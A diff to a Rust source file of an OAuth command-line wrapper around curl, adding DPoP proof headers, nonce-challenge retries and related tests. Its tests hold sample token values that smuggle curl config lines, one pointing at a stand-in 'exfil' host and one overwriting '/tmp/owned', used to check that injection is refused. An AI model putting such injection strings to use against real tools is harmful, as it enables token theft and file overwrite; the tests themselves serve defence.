@@ -10,11 +10,14 @@
 //! that a 401 invalid_token can be answered with a refresh and a second try.
 
 use super::Ctx;
+use super::curl_request;
 use super::engine::{self, Slot, Want};
 use crate::cli::CurlArgs;
 use crate::error::usage;
+use crate::oauth::dpop::{Dpop, ProofFor};
 use crate::options::TokenIn;
 use crate::output;
+use crate::secret::Secret;
 use crate::settings::Profile;
 use crate::signals::Forwarding;
 use crate::store::TokenSet;
@@ -42,11 +45,72 @@ pub fn run(ctx: &Ctx, args: &CurlArgs) -> Result<CurlExit> {
     let min_ttl = profile.min_ttl(args.min_ttl);
     let set = engine::obtain(ctx, &profile, &slot, Want::Fresh { min_ttl })?;
     let retry = args.retry_rejected || profile.retry_rejected.unwrap_or(false);
+    let dpop = if set.is_dpop_bound() {
+        if token_in == TokenIn::Query {
+            return Err(usage(
+                "a DPoP-bound token goes in the Authorization header only (RFC 9449 §7.1): drop --token-in query",
+            ));
+        }
+        let request = curl_request::request_line(&args.args)?;
+        if request.follows_redirects {
+            log::warn!(
+                "with -L, a redirected request carries the proof made for {}, which another URL's server refuses",
+                request.url
+            );
+        }
+        Some(DpopRequest {
+            key: engine::dpop_key(ctx, &profile, &slot, &set)?,
+            request,
+        })
+    } else {
+        None
+    };
+    // A DPoP server may ask for a nonce in a 401 (RFC 9449 §9), answered by
+    // a second try, which needs the first response held back.
+    let replayable = is_replayable(&args.args);
     #[cfg(unix)]
-    if !retry {
-        let TooLargeForPipe = exec(&curl, &args.args, &set, token_in, client_cert(&profile))?;
+    if !(retry || dpop.is_some() && replayable) {
+        let proof = dpop.as_ref().map(|d| d.proof(&set, None)).transpose()?;
+        let TooLargeForPipe = exec(
+            &curl,
+            &args.args,
+            &set,
+            token_in,
+            client_cert(&profile),
+            proof.as_ref(),
+        )?;
     }
-    supervise(ctx, &profile, &slot, &curl, args, &set, token_in, retry)
+    let run = Supervised {
+        curl: &curl,
+        user_args: &args.args,
+        token_in,
+        client_cert: client_cert(&profile),
+        dpop: dpop.as_ref(),
+    };
+    supervise(ctx, &profile, &slot, &run, &set, retry, replayable)
+}
+
+/// A DPoP-bound token's key, and the request its proofs are for.
+struct DpopRequest {
+    key: Dpop,
+    request: curl_request::RequestLine,
+}
+
+impl DpopRequest {
+    /// A fresh proof for `set`'s access token, with the API's nonce once it
+    /// asked for one.
+    fn proof(&self, set: &TokenSet, nonce: Option<&str>) -> Result<Secret> {
+        let proof = self.key.proof(
+            &ProofFor {
+                htm: &self.request.method,
+                htu: &self.request.url,
+                access_token: Some(set.access_token.expose()),
+                nonce,
+            },
+            crate::store::now(),
+        )?;
+        Ok(proof)
+    }
 }
 
 /// The profile's client certificate, for curl to present.
@@ -71,10 +135,11 @@ pub fn exec(
     set: &TokenSet,
     token_in: TokenIn,
     client_cert: ClientCert,
+    proof: Option<&Secret>,
 ) -> Result<TooLargeForPipe> {
     use std::os::fd::AsRawFd;
     use std::os::unix::process::CommandExt;
-    let (config, args) = curl_config(user_args, set, token_in, client_cert)?;
+    let (config, args) = curl_config(user_args, set, token_in, client_cert, proof)?;
     let (reader, mut writer) = std::io::pipe().context("cannot create a pipe for curl's config")?;
     // Nobody writes once curl runs, so the whole config must fit now; a
     // full pipe must not block oauthctl before curl even starts.
@@ -98,18 +163,17 @@ pub fn exec(
 }
 
 /// oauthctl stays curl's parent: it writes the config while curl reads it,
-/// forwards signals, and, with `retry`, holds a replayable request's
-/// response back until it knows the token was not rejected.
-#[allow(clippy::too_many_arguments)]
+/// forwards signals, and holds a replayable request's response back until
+/// it knows that no second try is needed: for a DPoP nonce the API asked
+/// for, or (with `retry`) for an invalid_token 401.
 fn supervise(
     ctx: &Ctx,
     profile: &Profile,
     slot: &Slot,
-    curl: &Path,
-    args: &CurlArgs,
+    run: &Supervised,
     set: &TokenSet,
-    token_in: TokenIn,
     retry: bool,
+    replayable: bool,
 ) -> Result<CurlExit> {
     let workdir = private_workdir(ctx.globals.runtime_dir.as_deref())?;
     // SIGINT, SIGTERM and SIGHUP go to curl, and oauthctl waits for it; one
@@ -120,31 +184,33 @@ fn supervise(
             let _ = std::fs::remove_dir_all(&path);
         })?
     };
-
-    let replayable = retry && is_replayable(&args.args);
-    let run = Supervised {
-        curl,
-        user_args: &args.args,
-        token_in,
-        client_cert: client_cert(profile),
+    let attempt = Attempt {
         workdir: workdir.path(),
         signals: &signals,
     };
-    let first = invoke(&run, set, replayable)?;
+    let capture = replayable && (retry || run.dpop.is_some());
+    let first = invoke(run, &attempt, set, capture, None)?;
     if signals.received().is_some() {
         return Ok(CurlExit(exit_code(first.status)));
     }
-    if let Some(captured) = &first.captured {
-        if rejected_token(&captured.headers) {
-            ctx.note(
-                "The API rejected the token (invalid_token): refreshing it and retrying once.",
-            );
-            let renewed = engine::obtain(ctx, profile, slot, Want::Renewed)?;
-            let second = invoke(&run, &renewed, false)?;
-            return Ok(CurlExit(exit_code(second.status)));
-        }
-        copy_to_stdout(&captured.body)?;
+    let Some(captured) = &first.captured else {
+        return Ok(CurlExit(exit_code(first.status)));
+    };
+    let headers = std::fs::read_to_string(&captured.headers).unwrap_or_default();
+    if run.dpop.is_some()
+        && let Some(nonce) = nonce_challenge(&headers)
+    {
+        log::info!("the API asked for a DPoP nonce: sending the request again with it");
+        let second = invoke(run, &attempt, set, false, Some(&nonce))?;
+        return Ok(CurlExit(exit_code(second.status)));
     }
+    if retry && rejected_token(&headers) {
+        ctx.note("The API rejected the token (invalid_token): refreshing it and retrying once.");
+        let renewed = engine::obtain(ctx, profile, slot, Want::Renewed)?;
+        let second = invoke(run, &attempt, &renewed, false, None)?;
+        return Ok(CurlExit(exit_code(second.status)));
+    }
+    copy_to_stdout(&captured.body)?;
     Ok(CurlExit(exit_code(first.status)))
 }
 
@@ -166,20 +232,32 @@ struct Supervised<'a> {
     user_args: &'a [String],
     token_in: TokenIn,
     client_cert: ClientCert<'a>,
+    dpop: Option<&'a DpopRequest>,
+}
+
+/// Where the attempts keep what they capture, and who forwards signals.
+struct Attempt<'a> {
     workdir: &'a Path,
     signals: &'a Forwarding,
 }
 
-fn invoke(run: &Supervised, set: &TokenSet, capture: bool) -> Result<Invocation> {
+fn invoke(
+    run: &Supervised,
+    attempt: &Attempt,
+    set: &TokenSet,
+    capture: bool,
+    nonce: Option<&str>,
+) -> Result<Invocation> {
     let Supervised {
         curl,
         user_args,
         token_in,
         client_cert,
-        workdir,
-        signals,
+        dpop,
     } = *run;
-    let (config, args) = curl_config(user_args, set, token_in, client_cert)?;
+    let Attempt { workdir, signals } = *attempt;
+    let proof = dpop.map(|d| d.proof(set, nonce)).transpose()?;
+    let (config, args) = curl_config(user_args, set, token_in, client_cert, proof.as_ref())?;
     let mut command = Command::new(curl);
     let pipe = ConfigPipe::attach(&mut command, &args)?;
     command.args(&args);
@@ -269,8 +347,9 @@ fn curl_config(
     set: &TokenSet,
     token_in: TokenIn,
     client_cert: ClientCert,
+    proof: Option<&Secret>,
 ) -> Result<(String, Vec<String>)> {
-    let (mut config, args) = token_config(user_args, set, token_in)?;
+    let (mut config, args) = token_config(user_args, set, token_in, proof)?;
     // A certificate-bound token (RFC 8705) works only with its certificate.
     if let Some((cert, key)) = client_cert {
         for (name, path) in [("cert", cert), ("key", key)] {
@@ -293,11 +372,23 @@ fn token_config(
     user_args: &[String],
     set: &TokenSet,
     token_in: TokenIn,
+    proof: Option<&Secret>,
 ) -> Result<(String, Vec<String>)> {
     // Checked when parsed, and again on the way out: a curl config line
     // with a newline in it is a new curl option.
     let (_, token) = output::checked_token(set)?;
     match token_in {
+        TokenIn::Header if set.is_dpop_bound() => {
+            let proof = proof.ok_or_else(|| {
+                anyhow::anyhow!("a DPoP-bound token needs a proof for each request")
+            })?;
+            let lines = output::dpop_header_lines(set, proof)?;
+            let config: String = lines
+                .iter()
+                .map(|line| format!("header = \"{}\"\n", quote(line)))
+                .collect();
+            Ok((config, user_args.to_vec()))
+        }
         TokenIn::Header => {
             let header = output::authorization_header(set)?;
             Ok((
@@ -377,13 +468,9 @@ fn reads_stdin(args: &[String]) -> bool {
     false
 }
 
-/// The last response in a curl header dump was a 401 whose
-/// `WWW-Authenticate: Bearer` says the token is invalid (RFC 6750 §3.1).
-fn rejected_token(headers: &Path) -> bool {
-    let Ok(text) = std::fs::read_to_string(headers) else {
-        return false;
-    };
-    let last = text
+/// The status and header lines of the last response in a curl header dump.
+fn last_response(headers: &str) -> (&str, Vec<&str>) {
+    let last = headers
         .split("\r\n\r\n")
         .filter(|block| block.trim_start().starts_with("HTTP/"))
         .last()
@@ -393,13 +480,45 @@ fn rejected_token(headers: &Path) -> bool {
         .next()
         .and_then(|l| l.split_whitespace().nth(1))
         .unwrap_or("");
+    (status, lines.collect())
+}
+
+/// The value of a `WWW-Authenticate` line, lower-cased, when the line is one.
+fn challenge(line: &str) -> Option<String> {
+    let lower = line.to_ascii_lowercase();
+    lower
+        .strip_prefix("www-authenticate:")
+        .map(|value| value.trim().to_owned())
+}
+
+/// The last response in a curl header dump was a 401 whose Bearer or DPoP
+/// challenge says the token is invalid (RFC 6750 §3.1, RFC 9449 §7.1).
+fn rejected_token(headers: &str) -> bool {
+    let (status, lines) = last_response(headers);
     status == "401"
-        && lines.any(|l| {
-            let lower = l.to_ascii_lowercase();
-            lower.starts_with("www-authenticate:")
-                && lower.contains("bearer")
-                && lower.contains("invalid_token")
+        && lines.iter().filter_map(|l| challenge(l)).any(|value| {
+            (value.contains("bearer") || value.contains("dpop")) && value.contains("invalid_token")
         })
+}
+
+/// The last response was a 401 asking for a DPoP nonce (RFC 9449 §9), and
+/// carried one that can go into a proof.
+fn nonce_challenge(headers: &str) -> Option<String> {
+    let (status, lines) = last_response(headers);
+    let asked = status == "401"
+        && lines
+            .iter()
+            .filter_map(|l| challenge(l))
+            .any(|value| value.contains("dpop") && value.contains("use_dpop_nonce"));
+    if !asked {
+        return None;
+    }
+    lines.iter().find_map(|line| {
+        let (name, value) = line.split_once(':')?;
+        let value = value.trim();
+        (name.trim().eq_ignore_ascii_case("dpop-nonce") && crate::oauth::dpop::valid_nonce(value))
+            .then(|| value.to_owned())
+    })
 }
 
 fn copy_to_stdout(path: &Path) -> Result<()> {
@@ -484,13 +603,14 @@ mod tests {
             obtained_at: 0,
             grant: None,
             refresh_rejected: false,
+            dpop_key: None,
         }
     }
 
     #[test]
     fn header_mode_keeps_argv_and_quotes() {
         let args = vec!["-sS".to_owned(), "https://api.example/x".to_owned()];
-        let (config, argv) = curl_config(&args, &set(), TokenIn::Header, None).unwrap();
+        let (config, argv) = curl_config(&args, &set(), TokenIn::Header, None, None).unwrap();
         assert_eq!(config, "header = \"Authorization: Bearer tok+en/=\"\n");
         assert_eq!(argv, args);
     }
@@ -506,24 +626,24 @@ mod tests {
         .iter()
         .map(|s| s.to_string())
         .collect();
-        let (config, argv) = curl_config(&args, &set(), TokenIn::Query, None).unwrap();
+        let (config, argv) = curl_config(&args, &set(), TokenIn::Query, None, None).unwrap();
         assert_eq!(argv, vec!["-s"]);
         assert!(
             config.contains("url = \"https://api.example/x?a=1&access_token=tok%2Ben%2F%3D\""),
             "{config}"
         );
         assert!(config.contains("http://127.0.0.1:1/y?access_token="));
-        assert!(curl_config(&["-s".to_owned()], &set(), TokenIn::Query, None).is_err());
+        assert!(curl_config(&["-s".to_owned()], &set(), TokenIn::Query, None, None).is_err());
     }
 
     #[test]
     fn a_token_that_could_inject_curl_options_is_never_written() {
         let mut hostile = set();
         hostile.token_type = Some("Bearer X\nurl = http://127.0.0.2/exfil\n#".into());
-        assert!(curl_config(&[], &hostile, TokenIn::Header, None).is_err());
+        assert!(curl_config(&[], &hostile, TokenIn::Header, None, None).is_err());
         let mut hostile = set();
         hostile.access_token = Secret::new("t\noutput = /tmp/owned");
-        assert!(curl_config(&[], &hostile, TokenIn::Header, None).is_err());
+        assert!(curl_config(&[], &hostile, TokenIn::Header, None, None).is_err());
     }
 
     #[test]
@@ -537,21 +657,54 @@ mod tests {
 
     #[test]
     fn detects_invalid_token_challenges() {
-        let dir = tempfile::tempdir().unwrap();
-        let path = dir.path().join("h");
-        std::fs::write(
-            &path,
-            "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Bearer error=\"invalid_token\"\r\n\r\n",
-        )
-        .unwrap();
-        assert!(rejected_token(&path));
-        std::fs::write(&path, "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Bearer error=\"invalid_token\"\r\n\r\nHTTP/1.1 200 OK\r\n\r\n").unwrap();
-        assert!(!rejected_token(&path));
-        std::fs::write(
-            &path,
-            "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=x\r\n\r\n",
-        )
-        .unwrap();
-        assert!(!rejected_token(&path));
+        assert!(rejected_token(
+            "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Bearer error=\"invalid_token\"\r\n\r\n"
+        ));
+        assert!(rejected_token(
+            "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: DPoP algs=\"ES256\", error=\"invalid_token\"\r\n\r\n"
+        ));
+        assert!(!rejected_token(
+            "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Bearer error=\"invalid_token\"\r\n\r\nHTTP/1.1 200 OK\r\n\r\n"
+        ));
+        assert!(!rejected_token(
+            "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=x\r\n\r\n"
+        ));
+    }
+
+    #[test]
+    fn a_dpop_nonce_challenge_yields_its_nonce() {
+        let asked = "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: DPoP error=\"use_dpop_nonce\", error_description=\"x\"\r\nDPoP-Nonce: eyJ7S_zG.eyJH0-Z\r\n\r\n";
+        assert_eq!(nonce_challenge(asked).as_deref(), Some("eyJ7S_zG.eyJH0-Z"));
+        // No challenge, no nonce worth a retry; a nonce that could not go
+        // into a proof is not taken.
+        assert_eq!(
+            nonce_challenge("HTTP/1.1 200 OK\r\nDPoP-Nonce: abc\r\n\r\n"),
+            None
+        );
+        assert_eq!(
+            nonce_challenge(
+                "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: DPoP error=\"use_dpop_nonce\"\r\nDPoP-Nonce: a b\r\n\r\n"
+            ),
+            None
+        );
+    }
+
+    #[test]
+    fn a_dpop_token_goes_with_its_proof_and_never_alone() {
+        let mut bound = set();
+        bound.token_type = Some("DPoP".into());
+        bound.access_token = Secret::new("at");
+        let args = vec!["https://api.example/x".to_owned()];
+        assert!(curl_config(&args, &bound, TokenIn::Header, None, None).is_err());
+        let proof = Secret::new("aGVhZGVy.Y2xhaW1z.c2ln");
+        let (config, argv) =
+            curl_config(&args, &bound, TokenIn::Header, None, Some(&proof)).unwrap();
+        assert_eq!(
+            config,
+            "header = \"Authorization: DPoP at\"\nheader = \"DPoP: aGVhZGVy.Y2xhaW1z.c2ln\"\n"
+        );
+        assert_eq!(argv, args);
+        let hostile = Secret::new("a.b.c\nurl = http://127.0.0.2/");
+        assert!(curl_config(&args, &bound, TokenIn::Header, None, Some(&hostile)).is_err());
     }
 }
